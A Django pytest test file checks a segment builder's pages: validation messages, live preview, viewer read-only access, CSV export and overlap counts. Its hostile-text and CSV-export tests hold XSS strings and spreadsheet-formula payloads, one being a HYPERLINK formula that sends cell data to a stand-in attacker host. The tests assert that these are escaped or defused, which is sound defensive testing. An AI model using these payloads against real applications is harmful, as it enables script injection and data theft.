"""Segment pages: the list, the builder's save and live preview, a segment's page and its actions,
overlap; refusals with their messages and nothing written; viewers read-only; hostile text escaped."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role
from accounts.tenancy import workspace_scope
from segmentation import services
from segmentation.models import Segment, SegmentSizeSnapshot
from segmentation.playbooks import BY_SLUG
from tests import factories
from tests.accounts.support import api, logged_in_client, state
from tests.segmentation.support import bought, members, reload, segment_rows, shopper

pytestmark = pytest.mark.django_db

BUYERS = {"type": "event", "event": "Order Completed", "window": {"since": "30d"}}
XSS_EVENT = "<img src=x onerror=alert(1)>"
XSS_TRAIT = "<script>alert(1)</script>"


def _segment(workspace, name="Buyers", definition=None, refresh=True, **kwargs):
    with workspace_scope(workspace):
        segment = services.segment_create(
            workspace=workspace, actor=None, name=name, definition=definition or BUYERS, **kwargs
        )
        if refresh and not segment.is_static:
            services.segment_refresh(segment=segment)
        return reload(segment)


def _json_script(html: str, element_id: str):
    start = html.index(f'id="{element_id}"')
    start = html.index(">", start) + 1
    return json.loads(html[start : html.index("</script>", start)])


def _preview(client, definition, segment=None):
    body = {"definition": definition, "segment": segment}
    return client.post(reverse("segment_builder_preview"), json.dumps(body), content_type="application/json")


@pytest.fixture
def shoppers(workspace):
    now = timezone.now()
    ann = shopper(workspace, "ann", traits={"plan": "Enterprise", "email": "ann@example.com", "name": "Ann Lee"})
    bob = shopper(workspace, "bob", traits={"plan": "Free"})
    cy = shopper(workspace, "cy", traits={"plan": "Strategic"})
    for who, days in ((ann, 1), (ann, 2), (cy, 3)):
        bought(workspace, who, now - timedelta(days=days), revenue=100)
    return {"ann": ann, "bob": bob, "cy": cy}


# --- The list ------------------------------------------------------------------------------


def test_an_empty_list_points_to_the_templates(owner):
    response = logged_in_client(owner).get(reverse("segments"))

    html = response.content.decode()
    assert response.status_code == 200
    assert "Build your first segment" in html
    for playbook in BY_SLUG.values():
        assert f"?template={playbook.slug}" in html


def test_the_list_shows_size_change_status_and_pins_its_queries(workspace, owner, shoppers, django_assert_num_queries):
    buyers = _segment(workspace, "Buyers")
    _segment(workspace, "Enterprise", {"type": "trait", "key": "plan", "operator": "eq", "value": "Enterprise"})
    with workspace_scope(workspace):
        SegmentSizeSnapshot.objects.create(
            workspace=workspace, segment=buyers, at=timezone.now() - timedelta(days=8), size=5
        )
        Segment.objects.filter(pk=buyers.pk).update(status="failed", error="statement timeout")
    client = logged_in_client(owner)
    client.get(reverse("segments"))

    # session, user, membership+workspace, workspaces of the switcher, segments, snapshots
    with django_assert_num_queries(6):
        response = client.get(reverse("segments"))
    _segment(workspace, "Third", {"type": "trait", "key": "plan", "operator": "is_set"})
    with django_assert_num_queries(6):
        client.get(reverse("segments"))

    html = response.content.decode()
    assert html.index("Buyers") < html.index("Enterprise")
    assert "\u22123" in html  # 2 now, 5 eight days ago
    assert "statement timeout" in html
    assert "Failed" in html
    assert 'class="spark"' in html


def test_the_list_searches_and_sorts_and_answers_htmx_with_the_table_only(workspace, owner, shoppers):
    _segment(workspace, "Buyers")
    _segment(workspace, "Everyone", {"type": "trait", "key": "plan", "operator": "is_set"})
    client = logged_in_client(owner)

    by_size = client.get(reverse("segments"), {"sort": "-size"}).content.decode()
    searched = client.get(reverse("segments"), {"q": "every"}, headers={"HX-Request": "true"}).content.decode()
    nothing = client.get(reverse("segments"), {"q": "zebra"}).content.decode()

    assert by_size.index("Everyone") < by_size.index("Buyers")
    assert "Everyone" in searched
    assert "Buyers" not in searched
    assert "<html" not in searched
    assert "No segment matches “zebra”" in nothing


# --- The builder ---------------------------------------------------------------------------


def test_the_builder_opens_empty_or_from_a_template(owner):
    client = logged_in_client(owner)

    empty = client.get(reverse("segment_new")).content.decode()
    templated = client.get(reverse("segment_new"), {"template": "cart-abandoners"}).content.decode()
    unknown = client.get(reverse("segment_new"), {"template": "nope"})

    assert _json_script(empty, "builder-definition") == {"type": "and", "conditions": []}
    assert _json_script(templated, "builder-definition") == BY_SLUG["cart-abandoners"].definition
    assert 'value="Cart abandoners (48 h)"' in templated
    assert unknown.status_code == 404


def test_saving_a_valid_definition_creates_the_segment_and_queues_its_refresh(
    workspace, owner, shoppers, django_capture_on_commit_callbacks
):
    client = logged_in_client(owner)
    definition = {
        "type": "and",
        "conditions": [
            BUYERS,
            {"type": "trait", "key": "plan", "operator": "in", "value": ["Enterprise", "Strategic"]},
        ],
    }

    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(
            reverse("segment_new"), {"name": "Key buyers", "description": "", "definition": json.dumps(definition)}
        )

    with workspace_scope(workspace):
        segment = Segment.objects.get(name="Key buyers")
    assert response.status_code == 302
    assert response["Location"] == reverse("segment_detail", args=[segment.pk])
    assert segment.definition == definition
    assert len(callbacks) == 1


@pytest.mark.parametrize(
    ("definition", "path", "message"),
    [
        ({"type": "and", "conditions": []}, "conditions", "must hold 1 to 50 conditions, not 0"),
        (
            {"type": "and", "conditions": [{"type": "event", "event": ""}]},
            "conditions[0].event",
            "must not be empty",
        ),
        (
            {"type": "and", "conditions": [BUYERS, {"type": "or", "conditions": []}]},
            "conditions[1].conditions",
            "must hold 1 to 50 conditions, not 0",
        ),
        ({"type": "segment", "segment": 999999}, "segment", "segment 999999 does not exist in this workspace"),
    ],
)
def test_an_invalid_definition_is_refused_with_each_message_at_its_path_and_nothing_saved(
    workspace, owner, definition, path, message
):
    client = logged_in_client(owner)
    before = segment_rows(workspace)

    response = client.post(reverse("segment_new"), {"name": "Broken", "definition": json.dumps(definition)})

    html = response.content.decode()
    assert response.status_code == 400
    assert _json_script(html, "builder-errors") == [{"path": path, "message": message}]
    assert _json_script(html, "builder-definition") == definition
    assert "The definition has 1 problem, marked below." in html
    assert segment_rows(workspace) == before


@pytest.mark.parametrize(
    ("body", "field", "message"),
    [
        ({"name": "", "definition": json.dumps(BUYERS)}, "name", "This field is required."),
        (
            {"name": "Taken", "definition": json.dumps(BUYERS)},
            "name",
            "A segment named &#x27;Taken&#x27; already exists",
        ),
        ({"name": "X", "definition": "{not json"}, "definition", "Not valid JSON"),
        ({"name": "X", "definition": "[1]"}, "definition", "The definition must be one JSON object"),
    ],
)
def test_bad_form_input_is_refused_inline_and_nothing_saved(workspace, owner, body, field, message):
    _segment(workspace, "Taken", refresh=False)
    client = logged_in_client(owner)
    before = segment_rows(workspace)

    response = client.post(reverse("segment_new"), body)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert segment_rows(workspace) == before


def test_editing_saves_the_new_definition_and_name(workspace, owner, shoppers):
    segment = _segment(workspace, "Buyers")
    client = logged_in_client(owner)
    page = client.get(reverse("segment_edit", args=[segment.pk])).content.decode()
    changed = {**BUYERS, "window": {"since": "7d"}}

    response = client.post(
        reverse("segment_edit", args=[segment.pk]),
        {"name": "Recent buyers", "description": "week", "definition": json.dumps(changed)},
    )

    assert _json_script(page, "builder-definition") == BUYERS
    assert f'data-segment-id="{segment.pk}"' in page
    assert response.status_code == 302
    segment = reload(segment)
    assert (segment.name, segment.description, segment.definition) == ("Recent buyers", "week", changed)


def test_a_definition_cannot_refer_to_itself(workspace, owner):
    segment = _segment(workspace, "Loop", refresh=False)
    client = logged_in_client(owner)
    before = segment_rows(workspace)

    response = client.post(
        reverse("segment_edit", args=[segment.pk]),
        {"name": "Loop", "definition": json.dumps({"type": "segment", "segment": segment.pk})},
    )
    preview = _preview(client, {"type": "segment", "segment": segment.pk}, segment=segment.pk)

    assert response.status_code == 400
    assert _json_script(response.content.decode(), "builder-errors") == [
        {"path": "segment", "message": "a segment cannot refer to itself"}
    ]
    assert preview.status_code == 400
    assert preview.json()["errors"] == [{"path": "segment", "message": "a segment cannot refer to itself"}]
    assert segment_rows(workspace) == before


# --- Live preview --------------------------------------------------------------------------


def test_the_live_preview_equals_the_api_preview_and_links_people(workspace, owner, shoppers):
    definition = {
        "type": "and",
        "conditions": [
            BUYERS,
            {"type": "trait", "key": "plan", "operator": "in", "value": ["Enterprise", "Strategic"]},
        ],
    }
    client = logged_in_client(owner)
    before = state(workspace)

    live = _preview(client, definition)
    rest = api(client, "POST", reverse("segment-preview"), {"definition": definition})

    body = live.json()
    assert live.status_code == 200
    assert body["count"] == rest.json()["count"] == 2
    assert {p["label"] for p in body["sample"]} == {"Ann Lee", "cy"}
    ann = next(p for p in body["sample"] if p["label"] == "Ann Lee")
    assert ann == {
        "id": shoppers["ann"].pk,
        "label": "Ann Lee",
        "detail": "ann · ann@example.com",
        "url": reverse("person_detail", args=[shoppers["ann"].pk]),
    }
    assert "".join(part["text"] for part in body["sentence"]) == (
        "People who performed Order Completed in the last 30 days and whose plan is Enterprise or Strategic"
    )
    assert state(workspace) == before


def test_the_live_preview_names_every_faulty_path(owner):
    response = _preview(
        logged_in_client(owner),
        {
            "type": "and",
            "conditions": [
                {"type": "event", "event": "", "count": {"operator": "most", "value": 1}},
                {"type": "or", "conditions": []},
            ],
        },
    )

    assert response.status_code == 400
    assert response.json()["errors"] == [
        {"path": "conditions[0].event", "message": "must not be empty"},
        {
            "path": "conditions[0].count.operator",
            "message": "unknown operator 'most'; one of between, eq, gt, gte, lt, lte, neq",
        },
        {"path": "conditions[1].conditions", "message": "must hold 1 to 50 conditions, not 0"},
    ]


def test_the_live_preview_refuses_bad_bodies_and_other_workspaces_segments(workspace, owner):
    foreign = _segment(factories.WorkspaceFactory(), "Theirs", refresh=False)
    client = logged_in_client(owner)

    not_json = client.post(reverse("segment_builder_preview"), "{", content_type="application/json")
    no_definition = client.post(reverse("segment_builder_preview"), "{}", content_type="application/json")
    foreign_self = _preview(client, BUYERS, segment=foreign.pk)
    foreign_ref = _preview(client, {"type": "segment", "segment": foreign.pk})

    assert (not_json.status_code, not_json.json()["code"]) == (400, "parse_error")
    assert (no_definition.status_code, no_definition.json()["errors"]) == (
        400,
        [{"path": "", "message": "is required"}],
    )
    assert foreign_self.status_code == 404
    assert foreign_ref.status_code == 400
    assert foreign_ref.json()["errors"] == [
        {"path": "segment", "message": f"segment {foreign.pk} does not exist in this workspace"}
    ]


# --- Viewers -------------------------------------------------------------------------------


def test_viewers_see_the_builder_read_only_and_every_write_is_refused(workspace, shoppers):
    segment = _segment(workspace, "Buyers")
    viewer = logged_in_client(factories.member(workspace, role=Role.VIEWER))
    before = state(workspace)
    body = {"name": "Mine", "definition": json.dumps(BUYERS)}

    page = viewer.get(reverse("segment_edit", args=[segment.pk])).content.decode()
    detail = viewer.get(reverse("segment_detail", args=[segment.pk])).content.decode()
    refusals = [
        viewer.post(reverse("segment_new"), body),
        viewer.post(reverse("segment_edit", args=[segment.pk]), body),
        viewer.post(reverse("segment_refresh", args=[segment.pk])),
        viewer.post(reverse("segment_duplicate", args=[segment.pk])),
        viewer.post(reverse("segment_delete", args=[segment.pk])),
        _preview(viewer, BUYERS),
    ]

    assert "data-readonly" in page
    assert "Save segment" not in page
    assert "Delete segment" not in detail
    assert "Refresh now" not in detail
    assert [r.status_code for r in refusals] == [403] * 6
    assert state(workspace) == before


# --- A segment's page ----------------------------------------------------------------------


def test_the_segment_page_shows_sentence_members_history_and_webhooks(workspace, owner, shoppers):
    segment = _segment(workspace, "Buyers")
    from segmentation.models import WebhookSubscription

    with workspace_scope(workspace):
        WebhookSubscription.objects.create(
            workspace=workspace, url="https://hooks.example/all", secret_salt="s", secret_hint="h"
        )
    client = logged_in_client(owner)

    html = client.get(reverse("segment_detail", args=[segment.pk])).content.decode()
    searched = client.get(
        reverse("segment_detail", args=[segment.pk]),
        {"q": "ann@"},
        headers={"HX-Request": "true", "HX-Target": "members"},
    ).content.decode()

    assert 'People who performed <span class="s-event">Order Completed</span> in the last 30 days' in html
    assert "Ann Lee" in html
    assert ">cy<" in html
    assert "bob" not in html
    assert "https://hooks.example/all" in html
    assert 'class="chart"' in html
    assert "Entries and exits per day" in html
    assert "Ann Lee" in searched
    assert ">cy<" not in searched
    assert "<html" not in searched


def test_the_members_table_pins_its_queries(workspace, owner, django_assert_num_queries):
    for index in range(3):
        shopper(workspace, f"p{index}", traits={"plan": "x"})
    segment = _segment(workspace, "Planned", {"type": "trait", "key": "plan", "operator": "is_set"})
    client = logged_in_client(owner)
    url = reverse("segment_detail", args=[segment.pk])
    headers = {"HX-Request": "true", "HX-Target": "members"}
    client.get(url, headers=headers)

    # session, user, membership+workspace, workspaces of the switcher, segment, count, page
    with django_assert_num_queries(7):
        few = client.get(url, headers=headers)
    for index in range(3, 9):
        shopper(workspace, f"p{index}", traits={"plan": "x"})
    with workspace_scope(workspace):
        services.segment_refresh(segment=segment)
    with django_assert_num_queries(7):
        more = client.get(url, headers=headers)

    assert few.content.decode().count('class="person-link"') == 3
    assert more.content.decode().count('class="person-link"') == 9


def test_members_csv_streams_everyone_with_formulas_defused(workspace, owner):
    shopper(workspace, "=cmd()", traits={"plan": "x", "email": "+evil@example.com", "name": "@sum"})
    shopper(workspace, "plain", traits={"plan": "x"})
    segment = _segment(workspace, "Planned", {"type": "trait", "key": "plan", "operator": "is_set"})

    response = logged_in_client(owner).get(reverse("segment_members_csv", args=[segment.pk]))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert response["Content-Disposition"] == 'attachment; filename="planned-members.csv"'
    assert response["X-Segment-Size"] == "2"
    assert rows[0] == ["person_id", "user_id", "email", "name", "entered_at"]
    assert sorted(row[1:4] for row in rows[1:]) == [["'=cmd()", "'+evil@example.com", "'@sum"], ["plain", "", ""]]


@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1", "-2", "@x", "\tx", "\rx"])
def test_members_csv_defuses_every_formula_start(workspace, owner, text):
    shopper(workspace, text, traits={"plan": "x", "email": text, "name": text})
    segment = _segment(workspace, "Planned", {"type": "trait", "key": "plan", "operator": "is_set"})

    response = logged_in_client(owner).get(reverse("segment_members_csv", args=[segment.pk]))

    [_, row] = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row[1:4] == ["'" + text] * 3


def test_refresh_now_queues_a_refresh(workspace, owner, django_capture_on_commit_callbacks):
    segment = _segment(workspace, "Buyers", refresh=False)

    with django_capture_on_commit_callbacks() as callbacks:
        response = logged_in_client(owner).post(reverse("segment_refresh", args=[segment.pk]))

    assert response.status_code == 302
    assert len(callbacks) == 1


def test_duplicate_makes_a_numbered_copy_and_opens_it_in_the_builder(workspace, owner):
    segment = _segment(workspace, "Buyers", refresh=False)
    client = logged_in_client(owner)

    first = client.post(reverse("segment_duplicate", args=[segment.pk]))
    second = client.post(reverse("segment_duplicate", args=[segment.pk]))

    with workspace_scope(workspace):
        copies = list(Segment.objects.exclude(pk=segment.pk).order_by("pk").values_list("pk", "name", "definition"))
    assert [(name, definition) for _, name, definition in copies] == [
        ("Buyers (copy)", BUYERS),
        ("Buyers (copy 2)", BUYERS),
    ]
    assert first["Location"] == reverse("segment_edit", args=[copies[0][0]])
    assert second["Location"] == reverse("segment_edit", args=[copies[1][0]])


def test_deleting_a_segment_another_uses_is_refused_with_the_reason(workspace, owner):
    used = _segment(workspace, "Base", refresh=False)
    _segment(workspace, "Built on it", {"type": "segment", "segment": used.pk}, refresh=False)
    client = logged_in_client(owner)
    page = client.get(reverse("segment_detail", args=[used.pk])).content.decode()
    before = segment_rows(workspace)

    response = client.post(reverse("segment_delete", args=[used.pk]), follow=True)

    assert "This segment is used by" in page
    assert "Built on it" in page
    assert response.status_code == 200
    assert (
        "Not deleted. Segment &#x27;Base&#x27; is used by the definition of &#x27;Built on it&#x27;"
        in response.content.decode()
    )
    assert segment_rows(workspace) == before


def test_deleting_an_unused_segment(workspace, owner):
    segment = _segment(workspace, "Old", refresh=False)

    response = logged_in_client(owner).post(reverse("segment_delete", args=[segment.pk]), follow=True)

    assert response.redirect_chain == [(reverse("segments"), 302)]
    assert "Segment “Old” deleted." in response.content.decode()
    with workspace_scope(workspace):
        assert not Segment.objects.filter(pk=segment.pk).exists()


# --- Overlap -------------------------------------------------------------------------------


def test_overlap_counts_shared_members_and_jaccard(workspace, owner, shoppers):
    buyers = _segment(workspace, "Buyers")  # ann, cy
    rich = _segment(
        workspace,
        "Enterprise or Strategic",
        {"type": "trait", "key": "plan", "operator": "in", "value": ["Enterprise", "Strategic"]},
    )
    free = _segment(workspace, "Free", {"type": "trait", "key": "plan", "operator": "eq", "value": "Free"})
    assert (members(buyers), members(free)) == ({"ann", "cy"}, {"bob"})

    response = logged_in_client(owner).get(reverse("segment_overlap"), {"s": [buyers.pk, rich.pk, free.pk]})

    matrix = {
        (row.name, column.name): (cell.both, cell.jaccard)
        for row, cells in response.context["matrix"]
        for column, cell in cells
    }
    assert matrix[("Buyers", "Enterprise or Strategic")] == (2, 1.0)
    assert matrix[("Buyers", "Free")] == (0, 0.0)
    assert matrix[("Free", "Free")] == (1, 1.0)
    assert "J 1.00" in response.content.decode()


def test_overlap_of_an_unknown_or_foreign_segment_is_a_404(workspace, owner):
    mine = _segment(workspace, "Mine", refresh=False)
    theirs = _segment(factories.WorkspaceFactory(), "Theirs", refresh=False)
    client = logged_in_client(owner)

    assert client.get(reverse("segment_overlap"), {"s": [mine.pk, theirs.pk]}).status_code == 404
    assert client.get(reverse("segment_overlap"), {"s": ["x"]}).status_code == 404


# --- Hostile text --------------------------------------------------------------------------


def test_hostile_names_and_values_render_as_text(workspace, owner):
    shopper(workspace, "u1", traits={"plan": XSS_TRAIT})
    definition = {
        "type": "and",
        "conditions": [
            {"type": "event", "event": XSS_EVENT, "count": {"operator": "eq", "value": 0}},
            {"type": "trait", "key": "plan", "operator": "eq", "value": XSS_TRAIT},
        ],
    }
    segment = _segment(workspace, XSS_TRAIT, definition)
    client = logged_in_client(owner)

    pages = [
        client.get(reverse("segments")).content.decode(),
        client.get(reverse("segment_detail", args=[segment.pk])).content.decode(),
        client.get(reverse("segment_edit", args=[segment.pk])).content.decode(),
    ]

    for html in pages:
        assert "<script>alert(1)</script>" not in html
        assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in pages[1]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[0]


def test_anonymous_visitors_are_sent_to_sign_in():
    response = Client().get(reverse("segments"))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_segment_page_and_the_api_show_the_same_history(workspace, owner):
    """One history selector: the page's table and charts and the API's ``history`` agree day by day,
    including a size carried over from a refresh long before the window."""
    now = timezone.now()
    ann, bob = shopper(workspace, "ann"), shopper(workspace, "bob")
    bought(workspace, ann, now - timedelta(days=2))
    segment = _segment(workspace, refresh=False)
    with workspace_scope(workspace):
        Segment.objects.filter(pk=segment.pk).update(created_at=now - timedelta(days=60))
        SegmentSizeSnapshot.objects.create(
            workspace=workspace, segment=segment, at=now - timedelta(days=45), size=7, entered=7, exited=0
        )
        services.segment_refresh(segment=segment, now=now - timedelta(days=1))
        bought(workspace, bob, now - timedelta(hours=1))
        services.segment_refresh(segment=segment, now=now)
    key = factories.api_key(workspace)[1]

    page = logged_in_client(owner).get(reverse("segment_detail", args=[segment.pk]))
    history = api(Client(), "GET", reverse("segment-history", kwargs={"pk": segment.pk}), key=key)

    shown = [
        {"date": day.date.isoformat(), "size": day.size, "entered": day.entered, "exited": day.exited}
        for day in page.context["days"]
    ]
    assert history.status_code == 200
    assert shown == history.json()
    assert len(shown) == 30
    assert [row["size"] for row in shown[-3:]] == [7, 1, 2]
    assert [(row["entered"], row["exited"]) for row in shown[-2:]] == [(1, 0), (1, 0)]
